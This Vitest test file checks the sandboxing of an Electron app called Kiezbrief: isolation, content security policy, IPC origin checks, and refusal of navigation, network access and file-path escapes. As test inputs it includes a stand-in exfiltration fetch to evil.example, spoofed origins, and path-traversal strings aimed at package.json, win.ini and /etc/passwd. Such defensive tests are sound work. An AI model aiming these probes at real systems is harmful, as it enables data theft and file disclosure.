// What the Electron door promises, shown by the built main process and the built preload,
// unchanged, against a double of the `electron` module whose window is a page in a real Chromium:
//   * the page runs sandboxed and isolated under a strict policy and gets one call and one
//     subscription, nothing else
//   * it cannot leave, open windows, frame others, ask for devices or reach the network
//   * only its top frame is answered
//   * one instance per data folder; closing waits until everything is written
import { existsSync } from 'node:fs';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp, templatesFolder } from '#create-app';
import { callChannel } from '#shared/ipc.ts';
import {
  fillWithTwoActors,
  startElectron,
  untilPageHas,
  type ElectronRun,
  type Recorded,
} from '#tests/support/electron-run.ts';

let folder: string;
let electron: ElectronRun;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'kiezbrief-electron-'));
  await fillWithTwoActors(folder);
  electron = await startElectron(folder);
  await pageHas('[data-count=actors]');
}, 180_000);
afterAll(async () => {
  await electron.stop();
  await rm(folder, { recursive: true, force: true, maxRetries: 5 });
});

const evaluate = <T>(code: string) => electron.ask<T>('evaluate', code);
const pageHas = (selector: string) => evaluate(untilPageHas(selector));
const recorded = () => electron.ask<Recorded>('record');

describe('the window', () => {
  it('is sandboxed and isolated, without Node and without anything that loads from elsewhere', async () => {
    const {
      windowOptions: [options],
      isSandboxed,
    } = await recorded();
    expect(isSandboxed).toBe(true);
    expect(options?.webPreferences).toMatchObject({
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      nodeIntegrationInWorker: false,
      nodeIntegrationInSubFrames: false,
      webSecurity: true,
      allowRunningInsecureContent: false,
      experimentalFeatures: false,
      webviewTag: false,
      navigateOnDragDrop: false,
      spellcheck: false,
    });
  });

  it('has a menu in the language of the desktop', async () => {
    const {
      menu: [menu],
    } = await recorded();
    expect(menu?.map(({ label }) => label)).toEqual(['Datei', 'Bearbeiten', 'Ansicht']);
  });
});

describe('the page', () => {
  it('shows what is in the data folder', async () => {
    expect(await evaluate('document.querySelector("[data-count=actors] dd").textContent')).toBe(
      '2',
    );
    expect(await evaluate('document.querySelector(".path").textContent')).toBe(folder);
    expect(await electron.ask('problems')).toEqual([]);
  });

  it('comes from the scheme of its own with a strict policy as a header', async () => {
    expect((await recorded()).schemes).toEqual([
      { scheme: 'app', privileges: { standard: true, secure: true, supportFetchAPI: true } },
    ]);
    const headers = await electron.ask<Record<string, string>>('loadedHeaders');
    expect(headers['content-security-policy']).toMatch(/^default-src 'none'; script-src 'self';/);
    expect(headers['content-security-policy']).not.toContain('unsafe');
    expect(headers['x-content-type-options']).toBe('nosniff');
  });

  it('runs no code made from text and no inline script', async () => {
    // In a task of the page's own: what the test's tool evaluates directly is exempt from the
    // policy.
    expect(
      await evaluate(
        'new Promise((resolve) => setTimeout(() => { try { resolve(new Function("return 1")()); } catch (error) { resolve(error.name); } }))',
      ),
    ).toBe('EvalError');
    expect(
      await evaluate(
        '(() => { const s = document.createElement("script"); s.textContent = "window.ran = true"; document.body.append(s); return window.ran; })()',
      ),
    ).toBeUndefined();
  });

  it('gets one call and one subscription, frozen, and nothing of Electron or Node', async () => {
    expect(await evaluate('Object.keys(window.kiezbrief).sort()')).toEqual(['call', 'subscribe']);
    expect(await evaluate('Object.isFrozen(window.kiezbrief)')).toBe(true);
    expect(
      await evaluate('[typeof require, typeof process, typeof module, typeof Buffer]'),
    ).toEqual(['undefined', 'undefined', 'undefined', 'undefined']);
  });

  it('is told what happens and shows it', async () => {
    expect(
      await evaluate(`(async () => {
      const heard = new Promise((resolve) => { window.kiezbrief.subscribe((name) => resolve(name)); });
      const { value } = await window.kiezbrief.call('segments.save', { segment: { name: 'Alle', rule: { type: 'all', rules: [] }, revision: 0 } });
      return [value === undefined, await heard];
    })()`),
    ).toEqual([false, 'segments.changed']);
  });

  it('gets defects and unknown names as Replies, never as exceptions', async () => {
    expect(await evaluate("window.kiezbrief.call('__proto__.constructor', {})")).toEqual({
      ok: false,
      error: { code: 'api.unknown-method', data: {} },
    });
  });
});

describe('what the page cannot do', () => {
  it('leave', async () => {
    await evaluate('void (location.href = "https://evil.example/leave")');
    await evaluate('void (location.href = "app://kiezbrief/elsewhere")');
    await evaluate('new Promise((resolve) => setTimeout(resolve, 0))');
    expect(await evaluate('document.querySelector("[data-count=actors]") !== null')).toBe(true);
    await expect
      .poll(async () => (await recorded()).prevented)
      .toContain('https://evil.example/leave');
    expect(await electron.ask('redirectPrevented')).toBe(true);
  });

  it('open a window', async () => {
    await evaluate('void window.open("https://evil.example/popup")');
    await expect.poll(async () => (await recorded()).deniedWindows.length).toBeGreaterThan(0);
  });

  it('embed a page or attach a webview', async () => {
    expect(
      await evaluate(`new Promise((resolve) => {
      const frame = document.createElement("iframe");
      document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true });
      frame.src = "https://evil.example/frame";
      document.body.append(frame);
    })`),
    ).toBe('frame-src');
    expect(await electron.ask('webviewPrevented')).toBe(true);
  });

  it('put a file on the disk by itself', async () => {
    expect(await electron.ask('downloadPrevented')).toBe(true);
  });

  it('reach the network: its policy and the program each refuse', async () => {
    expect(
      await evaluate(
        'fetch("https://evil.example/exfiltrate").then(() => "reached", (error) => error.name)',
      ),
    ).toBe('TypeError');
    expect(
      await evaluate(
        'new Promise((resolve) => { const image = new Image(); image.onerror = () => resolve("refused"); image.onload = () => resolve("reached"); image.src = "https://evil.example/pixel.png"; })',
      ),
    ).toBe('refused');
  });

  it.each([
    'media',
    'geolocation',
    'notifications',
    'clipboard-read',
    'openExternal',
    'fileSystem',
    'hid',
    'usb',
    'display-capture',
  ])('be permitted to use %s', async (permission) => {
    expect(await electron.ask('permission', permission)).toEqual({
      request: false,
      check: false,
      device: false,
    });
  });
});

describe('IPC', () => {
  it.each([
    ['another address', { url: 'https://evil.example/', parent: null }],
    [
      'an address that only looks like ours',
      { url: 'app://kiezbrief.evil.example/', parent: null },
    ],
    ['a file', { url: 'file:///tmp/index.html', parent: null }],
    ['a frame inside the page', { url: 'app://kiezbrief/', parent: {} }],
    ['a frame that is gone', null],
  ])('answers nobody at %s', async (_where, frame) => {
    expect(await electron.ask('invokeAs', frame, callChannel, 'settings.get', {})).toEqual({
      ok: false,
      error: { code: 'host.foreign-origin', data: {} },
    });
  });

  it('has one channel', async () => {
    await expect(
      electron.ask('invokeAs', { url: 'app://kiezbrief/', parent: null }, 'shell:open', 'x'),
    ).rejects.toThrow('No handler');
  });
});

describe('app://', () => {
  it.each([
    'app://kiezbrief/../package.json',
    'app://kiezbrief/..%2fpackage.json',
    'app://kiezbrief/%2e%2e/main/index.js',
    'app://kiezbrief/assets/../../main/index.js',
    'app://kiezbrief/..\\main\\index.js',
    'app://kiezbrief/C:/Windows/win.ini',
    'app://kiezbrief/%',
    'app://evil/index.html',
    'app://kiezbrief.evil/index.html',
    'app://kiezbrief@evil/index.html',
    'app://kiezbrief/constructor',
    'app://kiezbrief//etc/passwd',
  ])('does not lead out of the screen: %s', async (url) => {
    const { status, headers } = await electron.ask<{
      status: number;
      headers: Record<string, string>;
    }>('fetch', url);
    expect(status).toBe(404);
    expect(headers['content-security-policy']).toBeDefined();
  });

  it('serves the screen and answers GET only', async () => {
    expect(await electron.ask('fetch', 'app://kiezbrief/')).toMatchObject({
      status: 200,
      headers: { 'content-type': 'text/html; charset=utf-8' },
    });
    expect(await electron.ask('fetch', 'app://kiezbrief/', 'POST')).toMatchObject({ status: 404 });
  });
});

describe('the program', () => {
  it('keeps the files of Chromium apart from the data', async () => {
    expect(await electron.ask('path', 'userData')).toBe(join(folder, 'window'));
  });

  it('runs once per data folder: a second start brings the first window to the front and ends', async () => {
    const second = await startElectron(folder);
    expect(await second.ended).toBe(0);
    await expect.poll(async () => (await recorded()).focusCount).toBe(1);
    expect((await recorded()).windowOptions).toHaveLength(1);
  }, 60_000);

  it('looks in where another door holds the folder, and says so', async () => {
    const other = await mkdtemp(join(tmpdir(), 'kiezbrief-held-'));
    const holding = { dataFolder: other, door: 'cli', templatesFolder: templatesFolder() } as const;
    const holder = await createApp(holding);
    const run = await startElectron(other);
    const text = () => run.ask<string>('evaluate', 'document.body.innerText');
    await expect
      .poll(text)
      .toContain('Kiezbrief arbeitet auf der Befehlszeile mit diesem Datenordner');
    expect(await run.stop()).toBe(0);
    await holder.close();
    await rm(other, { recursive: true });
  }, 60_000);

  it('ends when its window is closed, and has given the folder free by then', async () => {
    expect(await electron.stop()).toBe(0);
    const again = await createApp({
      dataFolder: folder,
      door: 'test',
      templatesFolder: templatesFolder(),
    });
    expect(await again.call('overview.get', {})).toMatchObject({
      value: { counts: { actors: 2, segments: 1 } },
    });
    await again.close();
    expect((await readdir(folder)).filter((name) => name.startsWith('secrets.keychain'))).toEqual(
      [],
    );
    expect(existsSync(join(folder, 'window'))).toBe(true);
  });
});
